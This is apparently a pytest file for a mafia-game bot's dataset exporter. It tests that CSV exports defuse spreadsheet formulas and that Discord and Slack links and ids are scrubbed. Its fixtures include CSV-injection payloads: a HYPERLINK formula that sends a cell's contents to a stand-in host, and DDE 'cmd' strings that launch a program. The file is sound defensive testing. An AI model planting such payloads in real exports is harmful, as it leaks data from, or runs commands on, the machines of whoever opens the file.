"""What a player types cannot attack the researcher who opens the export, nor leave ids in it
(issue 33, items 3 and 4): a formula is inert in the CSV tables (and exact in the JSON lines
and the LLMafia chats), and Discord and Slack links and bare Discord ids are scrubbed in every
format."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from sqlalchemy.engine import Engine

from bot.protection.consent import record_consent
from bot.protection.dataset.export import export_games
from bot.protection.dataset.scrub import Scrubber, scrub_links
from bot.protection.dataset.spreadsheet import inert_cell
from bot.service.port import GameService
from bot.service.timers import make_scheduler
from games.state import PhaseKind
from tests.bot.test_privacy import QUICK
from tests.bot.waiting import until_phase

SERVER = "G0FORMULA"
USERS = [f"U0FORM{i}" for i in range(5)]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@(1+1)*cmd|' /C calc'!A0",  # (an @handle would be scrubbed as a name first)
    "=1+1",
]
GUILD, CHANNEL, MESSAGE, STRANGER = (
    "123456789012345678",
    "234567890123456789",
    "345678901234567890",
    "456789012345678901",
)
LINKS = [
    f"look https://discord.com/channels/{GUILD}/{CHANNEL}/{MESSAGE} here",
    f"old one discordapp.com/channels/{GUILD}/{CHANNEL}",
    "and https://acme-widgets.slack.com/archives/C0ACME123/p1700000000123456?thread_ts=1",
    f"ask {STRANGER} about it",
]
IDS = [GUILD, CHANNEL, MESSAGE, STRANGER, "C0ACME123", "acme-widgets", "1700000000123456"]


@pytest.fixture
async def service(engine: Engine) -> AsyncIterator[GameService]:
    scheduler = make_scheduler()
    scheduler.start()
    svc = GameService(engine, scheduler)
    yield svc
    await svc.close()
    scheduler.shutdown(wait=False)


async def play(svc: GameService, lines: list[str]) -> str:
    """A finished Discord game with an agent, in which the first person says ``lines``."""
    for uid in USERS:
        record_consent(svc.engine, "discord", SERVER, uid, True)
    game_id = await svc.create_game(QUICK, platform="discord", server_external_id=SERVER, seed=5)
    for uid in USERS:
        await svc.join(game_id, uid)
    await svc.join(game_id, None, is_agent=True, agent_kind="llm")
    await svc.start(game_id)
    state = await until_phase(svc.games[game_id], PhaseKind.VOTE, tries=300)
    person = next(s.index for s in svc.games[game_id].seats if not s.is_agent)
    for line in lines:
        await svc.say(game_id, person, line)
    mafia = next(s for s in state.seats if s.is_mafia)
    for seat in state.seats:
        target = mafia if seat.index != mafia.index else state.seats[(mafia.index + 1) % 6]
        await svc.vote(game_id, seat.index, target.name)
    await svc.wait_finished(game_id)
    await svc.drain(game_id)
    return game_id


def exported_texts(out: Path, game_id: str) -> tuple[list[str], list[str], str]:
    """(csv texts, jsonl message texts, every LLMafia chat file's text)."""
    rows = list(csv.DictReader(io.StringIO((out / "csv" / "messages.csv").read_text("utf-8"))))
    jsonl = (out / "jsonl" / f"{game_id}.jsonl").read_text(encoding="utf-8").splitlines()
    said = [json.loads(x)["text"] for x in jsonl if '"kind": "message"' in x]
    chats = "".join(p.read_text("utf-8") for p in (out / "llmafia" / "1001").glob("*chat.txt"))
    return [r["text"] for r in rows], said, chats


async def test_formulas_are_inert_in_csv_and_exact_elsewhere(
    service: GameService, engine: Engine, tmp_path: Path
) -> None:
    game_id = await play(service, FORMULAS)
    out = tmp_path / "out"
    export_games(engine, [game_id], out)
    in_csv, in_jsonl, chats = exported_texts(out, game_id)
    stored = [t for t in in_jsonl if t.startswith(("=", "+", "-", "@"))]
    assert len(stored) == len(FORMULAS)
    assert stored[1:] == FORMULAS[1:]  # as typed (the first has its link scrubbed)
    for text in stored:
        assert "'" + text in in_csv  # one quote in front: text to a spreadsheet
        assert text not in in_csv
        assert text in chats  # LLMafia's chat files keep it exact
    # nothing else in the tables starts like a formula
    assert not [t for t in in_csv if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


async def test_links_and_ids_are_scrubbed_in_every_format(
    service: GameService, engine: Engine, tmp_path: Path
) -> None:
    game_id = await play(service, LINKS)
    out = tmp_path / "out"
    export_games(engine, [game_id], out)
    in_csv, in_jsonl, chats = exported_texts(out, game_id)
    everything = "\n".join([*in_csv, *in_jsonl, chats])
    everything += (out / "jsonl" / f"{game_id}.jsonl").read_text(encoding="utf-8")
    for secret in IDS:
        assert secret not in everything, secret
    for form in (in_csv, in_jsonl):
        assert "look https://discord.com/[link] here" in form
        assert "old one discordapp.com/[link]" in form
        assert "and https://slack.com/[link]" in form
        assert "ask [id] about it" in form


def test_cells_and_links_one_by_one() -> None:
    assert inert_cell("=1+1") == "'=1+1"
    assert inert_cell("\r=1") == "'\r=1"
    assert inert_cell("a=1") == "a=1" and inert_cell(3) == 3 and inert_cell("") == ""
    # a plain signed number is read as that number (a survey's seconds before the reveal)
    assert inert_cell("-12") == "-12" and inert_cell("+3.5") == "+3.5"
    assert inert_cell("-1+1") == "'-1+1" and inert_cell("-2-cmd|' /C calc'!A0").startswith("'")
    assert scrub_links("see https://www.bbc.co.uk/news/1?a=b. ok") == (
        "see https://bbc.co.uk/[link]. ok"
    )
    assert scrub_links("https://example.com") == "https://example.com"
    assert scrub_links("12345678901234567890 and 1234567890123456") == (
        "12345678901234567890 and 1234567890123456"  # not the length of a Discord id
    )
    # a mention keeps its own replacement (the person's character), not "[id]"
    scrub = Scrubber(mentions={GUILD: "Ari"}, links=True)
    assert scrub(f"hi <@{GUILD}> and {CHANNEL}") == "hi Ari and [id]"
    assert Scrubber()(f"kept {CHANNEL}") == f"kept {CHANNEL}"  # withdrawal's scrubber: ids only
